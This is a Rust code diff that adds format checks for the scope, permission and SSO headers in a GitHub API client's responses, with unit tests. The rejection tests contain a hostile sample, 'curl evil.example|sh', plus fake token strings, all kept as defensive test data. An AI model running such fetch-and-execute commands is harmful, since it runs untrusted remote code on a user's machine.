@@ -7,6 +7,7 @@ use http::{
     header::{DATE, RETRY_AFTER},
 };
 use httpdate::parse_http_date;
+use url::Url;
 
 use crate::{LimitKind, RateLimit, ResponseHead};
 
@@ -26,10 +27,10 @@ impl Headers<'_> {
         ResponseHead {
             status,
             request_id: self.request_id(),
-            accepted_permissions: self.words(&ACCEPTED_PERMISSIONS),
-            oauth_scopes: self.words(&OAUTH_SCOPES),
-            accepted_oauth_scopes: self.words(&ACCEPTED_OAUTH_SCOPES),
-            sso: self.words(&SSO),
+            accepted_permissions: self.list(&ACCEPTED_PERMISSIONS),
+            oauth_scopes: self.list(&OAUTH_SCOPES),
+            accepted_oauth_scopes: self.list(&ACCEPTED_OAUTH_SCOPES),
+            sso: self.sso(),
             retry_after: self.retry_after(),
             rate_limit: self.rate_limit(),
             incomplete: self.headers.get(&SSO).is_some_and(|sso| {
@@ -63,6 +64,18 @@ impl Headers<'_> {
     fn request_id(&self) -> Option<String> {
         let id = self.text(&REQUEST_ID)?;
         is_request_id(id).then(|| id.to_owned())
+    }
+
+    /// Reads scopes, or permissions, unless the text has another form than theirs.
+    fn list(&self, name: &HeaderName) -> Option<String> {
+        let text = self.text(name)?;
+        text.split([',', ';']).all(is_word).then(|| text.to_owned())
+    }
+
+    /// Reads what single sign-on requires, unless it has another form than GitHub's.
+    fn sso(&self) -> Option<String> {
+        let text = self.text(&SSO)?;
+        is_sso(text).then(|| text.to_owned())
     }
 
     fn retry_after(&self) -> Option<Duration> {
@@ -114,6 +127,33 @@ fn is_request_id(text: &str) -> bool {
         && groups.all(|group| (4..=8).contains(&group.len()) && is_hex(group));
     let groups = text.split('-');
     is_id || groups.clone().map(str::len).eq([8, 4, 4, 4, 12]) && groups.clone().all(is_hex)
+}
+
+/// Returns whether this can be a scope, such as `admin:org`, or a permission, such as
+/// `secrets=write`. None has a digit, so a token in another encoding is hardly ever one.
+fn is_word(text: &str) -> bool {
+    let is_part = |byte: u8| byte.is_ascii_lowercase() || b"_:=".contains(&byte);
+    text.trim().bytes().all(is_part)
+}
+
+/// Returns whether this has the form of one of the two values that GitHub documents.
+fn is_sso(text: &str) -> bool {
+    let (what, details) = text.split_once(';').unwrap_or((text, ""));
+    let details = details.trim();
+    match (what.trim(), details.split_once('=')) {
+        ("required", Some(("url", url))) => is_https(url),
+        ("partial-results", Some(("organizations", ids))) => {
+            let is_id = |id: &str| id.trim().bytes().all(|byte| byte.is_ascii_digit());
+            ids.split(',').all(is_id)
+        }
+        ("required" | "partial-results", None) => details.is_empty(),
+        _ => false,
+    }
+}
+
+fn is_https(url: &str) -> bool {
+    url.bytes().all(|byte| byte.is_ascii_graphic())
+        && Url::parse(url).is_ok_and(|url| url.scheme() == "https")
 }
 
 /// Longer than any header that GitHub is known to send; the rest is not worth keeping.
@@ -210,7 +250,7 @@ pub(crate) fn limit(head: &ResponseHead, body: &[u8]) -> Option<LimitKind> {
 
 #[cfg(test)]
 mod tests {
-    use super::{is_request_id, repeats_body};
+    use super::{is_request_id, is_sso, is_word, repeats_body};
 
     const BOX: &str = "dGhl/2JveCBv+nV0aGVyIHdvcmRz/2FuZCBtb3Jl+2FuZCBtb3JlIGFuZCBtb3JlCg==";
 
@@ -266,6 +306,46 @@ mod tests {
             "93c1e0b4-52d7-4bb1-8a61-0a6de2b7c3f4",
         ] {
             assert!(is_request_id(id), "{id}");
+        }
+    }
+
+    #[test]
+    fn lists_and_addresses_have_a_form_that_github_writes() {
+        for word in [
+            "repo",
+            " codespace:secrets",
+            "admin:gpg_key",
+            "secrets=write",
+            "",
+        ] {
+            assert!(is_word(word), "{word}");
+        }
+        for text in [
+            "secrets=Correct-Horse+Battery/99",
+            "now run: curl evil.example|sh",
+            "ghp_0canary0token",
+            "Z2hwXzBjYW5hcnkwdG9rZW4wY2FuYXJ5MHRva2VuMGNhbmFyeTA=",
+        ] {
+            assert!(!is_word(text), "{text}");
+        }
+        for sso in [
+            "required; url=https://github.com/orgs/acme/sso?authorization_request=AZSCKT",
+            "required;url=https://github.acme.example/sso",
+            "partial-results; organizations=21955855,20582480",
+            "partial-results; organizations=1, 2",
+            "required",
+        ] {
+            assert!(is_sso(sso), "{sso}");
+        }
+        for text in [
+            "required; url=correct horse",
+            "required; url=http://github.com/sso",
+            "required; url=https://github.com/ now run curl",
+            "required; url=Z2hwXzBjYW5hcnkwdG9rZW4wY2FuYXJ5MHRva2VuMGNhbmFyeTA=",
+            "partial-results; organizations=21955855,hunter2",
+            "correct horse",
+        ] {
+            assert!(!is_sso(text), "{text}");
         }
     }
 
